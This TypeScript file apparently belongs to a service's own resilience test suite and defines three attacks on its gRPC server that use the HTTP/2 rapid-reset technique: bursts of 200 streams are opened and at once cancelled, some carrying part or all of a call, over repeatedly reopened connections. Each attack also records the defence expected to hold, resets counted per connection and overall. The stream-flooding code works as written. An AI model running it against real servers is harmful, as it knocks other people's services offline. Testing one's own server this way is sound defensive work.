import { enveloped } from "../../../support/network/enveloped.ts";
import type { Attack, AttackContext } from "../../attack.ts";
import { untilOver } from "../../tools/at-once.ts";
import { pathOf } from "../../tools/messages.ts";
import { flags, frame, frames, grpcHead, RawHttp2, uint32 } from "../../tools/raw-http2.ts";

const right = "resets are counted over a connection and over all, so that whoever reconnects pays";
const streamsAtOnce = 200;
const cancel = 8;

/** Streams that are opened, perhaps written to, and reset, on connections that are made anew. */
async function resetStreams(
  { addresses, outcomes, signal }: AttackContext,
  body: Buffer | undefined,
): Promise<void> {
  const head = grpcHead(pathOf("renew"));
  await untilOver(10, signal, async () => {
    using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
    while (connection.isOpen && !signal.aborted) {
      const burst: Buffer[] = [];
      for (let index = 0; index < streamsAtOnce; index += 1) {
        const stream = connection.nextStream();
        burst.push(frame(frames.headers, flags.endHeaders, stream, head));
        if (body !== undefined) burst.push(frame(frames.data, 0, stream, body));
        burst.push(frame(frames.reset, 0, stream, uint32(cancel)));
      }
      await connection.send(Buffer.concat(burst));
      outcomes.see("reset", streamsAtOnce);
    }
  });
}

export const rapidResets: Attack = {
  name: "rapid-resets",
  sends: "HTTP/2 streams that are opened and reset at once, on 10 connections that are made anew",
  right,
  form: "short",
  needs: { outcome: "reset", times: 20_000 },
  run: (context) => resetStreams(context, undefined),
};

export const rapidResetsData: Attack = {
  name: "rapid-resets-data",
  sends: "the same with half a message on each stream",
  right,
  form: "full",
  run: (context) => resetStreams(context, enveloped(Buffer.alloc(1_000)).subarray(0, 500)),
};

export const rapidResetsWhole: Attack = {
  name: "rapid-resets-whole",
  sends: "the same with a whole call on each stream, that has begun when it is reset",
  right,
  form: "full",
  needs: { outcome: "reset", times: 5_000 },
  async run({ addresses, outcomes, signal }) {
    const head = grpcHead(pathOf("listSessions"));
    const body = enveloped(Buffer.of(0x10, 0xe8, 0x07));
    await untilOver(10, signal, async () => {
      using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
      while (connection.isOpen && !signal.aborted) {
        const streams = Array.from({ length: streamsAtOnce }, () => connection.nextStream());
        const calls = streams.flatMap((stream) => [
          frame(frames.headers, flags.endHeaders, stream, head),
          frame(frames.data, flags.endStream, stream, body),
        ]);
        await connection.send(Buffer.concat(calls));
        const resets = streams.map((stream) => frame(frames.reset, 0, stream, uint32(cancel)));
        await connection.send(Buffer.concat(resets));
        outcomes.see("reset", streamsAtOnce);
      }
    });
  },
};
